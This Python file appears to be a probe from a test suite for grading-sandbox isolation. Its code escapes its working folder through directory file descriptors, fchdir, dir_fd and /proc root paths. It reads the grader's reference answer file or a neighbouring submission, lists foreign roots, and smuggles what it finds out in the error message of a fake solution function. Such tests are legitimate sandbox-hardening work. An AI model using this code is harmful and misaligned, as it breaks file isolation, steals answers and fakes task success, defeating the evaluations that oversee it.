"""Climbs out of its folder by descriptors of folders, with fchdir, dir_fd, dots and slashes of many kinds, and reads on the way down to the course.

Promise: no-answers
Ends: raised
L1: open (as the grader's own user it may read what the grader may)
L0: open (nothing keeps files apart)
"""

import functools
import os

WON = "BREA" "CHED"
PARTS = "@root@/solutions/target/answer.py".strip("/").split("/")
NEIGHBOUR = "@neighbour@/answer.py".strip("/").split("/")
KINDS = (os.O_PATH | os.O_DIRECTORY, os.O_RDONLY | os.O_DIRECTORY, os.O_PATH)


def tops():
    """Descriptors of the highest folders that can be had."""
    for start in (".", "/", "..", "/proc/self/root", "/proc/self/cwd/..", "/dev/..", os.path.dirname(os.__file__), "/tmp", "//", "/../.."):
        for kind in KINDS:
            try:
                fd = os.open(start, kind)
            except OSError:
                continue
            for _step in range(30):
                try:
                    fd = os.open("..", kind, dir_fd=fd)
                except OSError:
                    break
            yield fd


def down(fd, parts):
    """Follow a path one folder at a time, each by the descriptor of the one before."""
    for part in parts[:-1]:
        before = fd
        for kind in KINDS:
            try:
                fd = os.open(part, kind, dir_fd=before)
                break
            except OSError:
                continue
        else:
            return b""
        os.close(before)
    for way in (lambda: os.read(os.open(parts[-1], os.O_RDONLY, dir_fd=fd), 99), lambda: os.listdir(fd), lambda: [e.name for e in os.scandir(fd)], lambda: walk(fd, parts[-1])):  # fmt: skip
        try:
            if found := way():
                return found
        except OSError:
            continue
    os.close(fd)
    return b""


def walk(fd, name):
    """From within: change to the folder, then by a plain name."""
    home = os.open(".", os.O_PATH)
    os.fchdir(fd)
    try:
        return open(name, "rb").read() or os.listdir(".")
    finally:
        os.fchdir(home)
        os.close(home)


def roots():
    """What a root that is not ours would show, or a folder above the scratch folder."""
    own = os.getcwd()
    for path in ("..", "../..", os.path.dirname(own), "/proc/1/root/@root@", "/proc/1/cwd"):
        try:
            names = os.listdir(path)
        except OSError:
            continue
        strange = set(names) & {"home", "var", "boot", "course", "neighbour", "sys", "answer.py"}
        if strange or any(name.startswith("grader-") and name != os.path.basename(own) for name in names):
            yield f"{path}: {names}"


@functools.cache
def loot():
    """The first way out."""
    for found in roots():
        return f"{WON}: {found:.200}"
    for fd in tops():
        for parts in (PARTS, NEIGHBOUR, PARTS[:-1]):
            try:
                found = down(os.dup(fd), parts)
            except OSError:
                continue
            if found:
                return f"{WON}: {'/'.join(parts)}: {found!r:.200}"
        os.close(fd)
    return ""


def affine(x):
    raise ValueError(loot() or "held")


def vowels(text):
    return -1
